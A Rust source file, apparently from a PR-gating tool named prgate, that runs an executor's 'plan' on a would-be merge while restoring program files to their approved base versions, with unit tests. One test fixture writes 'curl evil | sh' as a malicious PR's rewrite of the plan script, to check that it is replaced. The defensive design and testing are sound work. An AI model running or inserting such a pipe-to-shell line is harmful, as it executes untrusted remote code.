//! Plans: an executor's `plan` prints the effect of a change (which firewall rules open and
//! close, how many rows a migration touches) so that a reviewer approves the effect, not only
//! the diff. It runs before approval on the would-be merge, and again before the command on
//! the merge itself; the command runs only when both outputs have the same digest.
//!
//! The plan's program always comes from approved content: the tree a plan runs in is the
//! change's content with every path of the executor's program (its `program_paths`) as it is
//! in the base, so the PR's files are the plan's input, never its code.

use std::path::{Path, PathBuf};
use std::time::Duration;

use git2::{Oid, Repository, TreeWalkMode, TreeWalkResult};
use globset::{GlobSet, GlobSetBuilder};
use serde::Serialize;
use tokio_util::sync::CancellationToken;

use super::run::{RunSpec, run_executor};
use super::sandbox::Isolation;
use crate::config::ExecutorConfig;
use crate::git::worktree::{Checkout, checkout_fresh};
use crate::policy::compile_pattern;
use crate::record::note::{Outcome, PlanDigest};

/// Bytes of a plan's output kept for showing it; the digest and size cover all of it.
const PLAN_OUTPUT_CAP: usize = 256 * 1024;

/// One run of a plan: what it showed, and its digest when it succeeded.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct PlanRun {
    pub executor: String,
    /// The commit whose program paths the plan ran with (the base tip, or M's first parent).
    pub programs_from: String,
    /// The approved or proposed head the plan showed the effect of.
    pub head: String,
    /// The digest and size of the whole redacted output; `None` when the plan failed.
    pub plan: Option<PlanDigest>,
    /// Why the plan gave no effect to approve (it failed, timed out, could not start, or the
    /// change does not merge); `None` when it succeeded.
    pub failure: Option<String>,
    /// The redacted output, at most [`PLAN_OUTPUT_CAP`] bytes.
    pub output: String,
    pub truncated: bool,
}

impl PlanRun {
    /// A plan that could not even start (no clean merge, a checkout or secret that failed).
    pub fn failed(executor: &str, programs_from: Oid, head: Oid, reason: String) -> Self {
        PlanRun {
            executor: executor.to_string(),
            programs_from: programs_from.to_string(),
            head: head.to_string(),
            plan: None,
            failure: Some(reason),
            output: String::new(),
            truncated: false,
        }
    }
}

/// The tree of the would-be merge of `head` into `base` (the base branch's tip): the clean
/// three-way merge over their merge base, as the merge prgate makes would hold.
/// `Ok(Err(reason))` when there is no such tree (conflicts, no shared history).
pub(crate) fn would_be_merge(
    repo: &Repository,
    base: Oid,
    head: Oid,
) -> Result<Result<Oid, String>, git2::Error> {
    let merge_base = match repo.merge_base(base, head) {
        Ok(b) => b,
        Err(e) if e.code() == git2::ErrorCode::NotFound => {
            return Ok(Err(format!(
                "the head {head} and the base {base} share no history, so there is no merge to plan"
            )));
        }
        Err(e) => return Err(e),
    };
    let ancestor = repo.find_commit(merge_base)?.tree()?;
    let ours = repo.find_commit(base)?.tree()?;
    let theirs = repo.find_commit(head)?.tree()?;
    let mut index = repo.merge_trees(&ancestor, &ours, &theirs, None)?;
    if index.has_conflicts() {
        return Ok(Err(format!(
            "the head {head} does not merge cleanly into the base {base}; resolve the conflicts so that the plan can show the effect"
        )));
    }
    Ok(Ok(index.write_tree_to(repo)?))
}

/// The globs of an executor's program paths, read as rule paths are (CODEOWNERS semantics).
fn program_globs(patterns: &[String]) -> Result<GlobSet, String> {
    let mut builder = GlobSetBuilder::new();
    for p in patterns {
        for g in compile_pattern(p).map_err(|e| e.to_string())? {
            builder.add(g);
        }
    }
    builder.build().map_err(|e| e.to_string())
}

/// Every blob path of `tree` that `globs` match, with its id and mode.
fn matching_entries(
    repo: &Repository,
    tree: Oid,
    globs: &GlobSet,
) -> Result<Vec<(String, Oid, i32)>, git2::Error> {
    let mut found = Vec::new();
    repo.find_tree(tree)?
        .walk(TreeWalkMode::PreOrder, |dir, entry| {
            if entry.kind() != Some(git2::ObjectType::Tree)
                && let Some(name) = entry.name()
            {
                let path = format!("{dir}{name}");
                if globs.is_match(&path) {
                    found.push((path, entry.id(), entry.filemode()));
                }
            }
            TreeWalkResult::Ok
        })?;
    Ok(found)
}

/// `content` with every path the program patterns cover as it is in `programs`: a program
/// file the change added is gone, one it edited or deleted is the approved version.
pub(crate) fn with_programs_from(
    repo: &Repository,
    content: Oid,
    programs: Oid,
    patterns: &[String],
) -> Result<Oid, String> {
    if patterns.is_empty() {
        return Ok(content);
    }
    let globs = program_globs(patterns)?;
    let git = |e: git2::Error| e.message().to_string();
    let proposed = matching_entries(repo, content, &globs).map_err(git)?;
    let approved = matching_entries(repo, programs, &globs).map_err(git)?;
    let mut update = git2::build::TreeUpdateBuilder::new();
    // One update per path (git2 refuses two): the approved version, or none.
    for (path, _, _) in proposed
        .iter()
        .filter(|(p, _, _)| !approved.iter().any(|(a, _, _)| a == p))
    {
        update.remove(path.as_str());
    }
    for (path, id, mode) in &approved {
        update.upsert(path.as_str(), *id, filemode(*mode));
    }
    let base = repo.find_tree(content).map_err(git)?;
    update.create_updated(repo, &base).map_err(git)
}

fn filemode(mode: i32) -> git2::FileMode {
    match mode {
        0o100755 => git2::FileMode::BlobExecutable,
        0o120000 => git2::FileMode::Link,
        0o160000 => git2::FileMode::Commit,
        _ => git2::FileMode::Blob,
    }
}

/// Checks out `tree` at `dir` for a plan: a commit made for it (parents as given, on no ref),
/// so that the plan's git sees a repository as the command's does.
pub(crate) fn checkout_plan_tree(
    repo: &Repository,
    tree: Oid,
    parents: &[Oid],
    dir: &Path,
) -> Result<Checkout, String> {
    let git = |e: git2::Error| e.message().to_string();
    let tree = repo.find_tree(tree).map_err(git)?;
    let parents: Vec<git2::Commit<'_>> = parents
        .iter()
        .map(|p| repo.find_commit(*p))
        .collect::<Result<_, _>>()
        .map_err(git)?;
    let parent_refs: Vec<&git2::Commit<'_>> = parents.iter().collect();
    // A fixed identity and time: the commit's id depends only on its tree and parents, so the
    // plan sees the same HEAD whenever it runs on the same content.
    let sig =
        git2::Signature::new("prgate", "prgate@localhost", &git2::Time::new(0, 0)).map_err(git)?;
    let commit = repo
        .commit(
            None,
            &sig,
            &sig,
            "prgate plan checkout\n",
            &tree,
            &parent_refs,
        )
        .map_err(git)?;
    checkout_fresh(repo, commit, dir).map_err(|e| e.to_string())
}

/// What a plan run needs besides its checkout.
pub(crate) struct PlanSpec<'a> {
    pub executor: &'a str,
    pub config: &'a ExecutorConfig,
    pub timeout: Duration,
    pub programs_from: Oid,
    pub head: Oid,
    /// Every secret the gate holds, redacted from the output.
    pub held: std::sync::Arc<Vec<Vec<u8>>>,
    /// `PRGATE_REPO`, `PRGATE_PULL`, `PRGATE_HEAD_SHA`: the same before approval and before
    /// the command, so that a plan which prints them stays deterministic.
    pub context: Vec<(String, String)>,
}

/// Runs the plan in `checkout` (then removes it): a cleared environment with only
/// `plan_env`'s secrets (the executor's `env` never reaches a plan), the executor's timeout,
/// the output redacted, capped and hashed as a command's is.
pub(crate) async fn run_plan(
    spec: &PlanSpec<'_>,
    checkout: Checkout,
    cancel: CancellationToken,
) -> PlanRun {
    let failed =
        |reason: String| PlanRun::failed(spec.executor, spec.programs_from, spec.head, reason);
    let env = crate::config::resolve_env(&spec.config.plan_env);
    let env = match env {
        Ok(env) => env,
        Err(reason) => {
            checkout.remove();
            return failed(format!("a plan_env secret does not resolve: {reason}"));
        }
    };
    let run_spec = RunSpec {
        argv: spec.config.plan_argv().to_vec(),
        workdir: checkout.work_tree.clone(),
        git_dir: Some(checkout.git_dir.clone()),
        env,
        context: spec.context.clone(),
        timeout: spec.timeout,
        output_cap: PLAN_OUTPUT_CAP,
        isolation: Isolation::for_plan(spec.config, &checkout.objects),
        held: spec.held.clone(),
    };
    let result = run_executor(&run_spec, cancel).await;
    checkout.remove();
    let failure = match result.outcome {
        Outcome::Succeeded => None,
        Outcome::Timeout => Some(format!(
            "the plan timed out after {}",
            crate::render::short_duration(spec.timeout)
        )),
        Outcome::NotStarted => Some(format!("the plan did not start: {}", result.output.trim())),
        Outcome::Cancelled => {
            Some("the plan was cancelled: a newer head of the PR supersedes it".into())
        }
        _ => Some(match result.exit_code {
            Some(c) => format!("the plan failed with exit code {c}"),
            None => "the plan was killed by a signal".to_string(),
        }),
    };
    PlanRun {
        executor: spec.executor.to_string(),
        programs_from: spec.programs_from.to_string(),
        head: spec.head.to_string(),
        plan: failure
            .is_none()
            .then(|| PlanDigest::of_output(&result.output_sha256, result.output_size)),
        failure,
        output: result.output,
        truncated: result.truncated,
    }
}

/// Where a plan of `head` is checked out under the data directory: apart from the command's
/// checkout, so that a plan never runs in (or leaves anything in) the tree the command gets.
pub(crate) fn plan_dir(data_dir: &Path, executor: &str, head: &str) -> PathBuf {
    data_dir.join("plans").join(format!(
        "{executor}-{head}-{}",
        uuid::Uuid::new_v4().simple()
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo() -> (tempfile::TempDir, Repository) {
        let dir = tempfile::tempdir().unwrap();
        let repo = Repository::init_bare(dir.path()).unwrap();
        (dir, repo)
    }

    fn tree(repo: &Repository, files: &[(&str, &str)]) -> Oid {
        let mut update = git2::build::TreeUpdateBuilder::new();
        for (path, text) in files {
            let blob = repo.blob(text.as_bytes()).unwrap();
            update.upsert(*path, blob, git2::FileMode::Blob);
        }
        let empty = repo.treebuilder(None).unwrap().write().unwrap();
        update
            .create_updated(repo, &repo.find_tree(empty).unwrap())
            .unwrap()
    }

    fn commit(repo: &Repository, tree: Oid, parents: &[Oid]) -> Oid {
        let sig = git2::Signature::now("t", "t@t").unwrap();
        let parents: Vec<_> = parents
            .iter()
            .map(|p| repo.find_commit(*p).unwrap())
            .collect();
        let refs: Vec<_> = parents.iter().collect();
        repo.commit(None, &sig, &sig, "c", &repo.find_tree(tree).unwrap(), &refs)
            .unwrap()
    }

    fn read(repo: &Repository, tree: Oid, path: &str) -> Option<String> {
        let t = repo.find_tree(tree).unwrap();
        let e = t.get_path(Path::new(path)).ok()?;
        let blob = repo.find_blob(e.id()).unwrap();
        Some(String::from_utf8_lossy(blob.content()).into_owned())
    }

    #[test]
    fn the_plan_program_is_the_bases_whatever_the_change_does_to_it() {
        let (_d, r) = repo();
        let base_tree = tree(
            &r,
            &[
                ("firewall/rules.toml", "allow = [22]\n"),
                ("scripts/plan.sh", "echo approved\n"),
                ("scripts/lib/a.sh", "lib\n"),
            ],
        );
        let base = commit(&r, base_tree, &[]);
        // The change edits the rules (its input), rewrites the plan, deletes a library file
        // and adds another under the program paths.
        let head_tree = tree(
            &r,
            &[
                ("firewall/rules.toml", "allow = [22, 443]\n"),
                ("scripts/plan.sh", "curl evil | sh\n"),
                ("scripts/lib/b.sh", "new\n"),
            ],
        );
        let head = commit(&r, head_tree, &[base]);
        let merged = would_be_merge(&r, base, head).unwrap().unwrap();
        assert_eq!(
            read(&r, merged, "scripts/plan.sh").unwrap(),
            "curl evil | sh\n"
        );
        let planned = with_programs_from(
            &r,
            merged,
            r.find_commit(base).unwrap().tree_id(),
            &["scripts/plan.sh".into(), "scripts/lib/**".into()],
        )
        .unwrap();
        assert_eq!(
            read(&r, planned, "scripts/plan.sh").unwrap(),
            "echo approved\n"
        );
        assert_eq!(read(&r, planned, "scripts/lib/a.sh").unwrap(), "lib\n");
        assert_eq!(read(&r, planned, "scripts/lib/b.sh"), None);
        assert_eq!(
            read(&r, planned, "firewall/rules.toml").unwrap(),
            "allow = [22, 443]\n"
        );
    }

    #[test]
    fn a_change_that_does_not_merge_has_no_plan() {
        let (_d, r) = repo();
        let root = commit(&r, tree(&r, &[("f", "a\n")]), &[]);
        let ours = commit(&r, tree(&r, &[("f", "b\n")]), &[root]);
        let theirs = commit(&r, tree(&r, &[("f", "c\n")]), &[root]);
        let reason = would_be_merge(&r, ours, theirs).unwrap().unwrap_err();
        assert!(reason.contains("does not merge cleanly"), "{reason}");
        let unrelated = commit(&r, tree(&r, &[("g", "x\n")]), &[]);
        let reason = would_be_merge(&r, ours, unrelated).unwrap().unwrap_err();
        assert!(reason.contains("share no history"), "{reason}");
    }
}
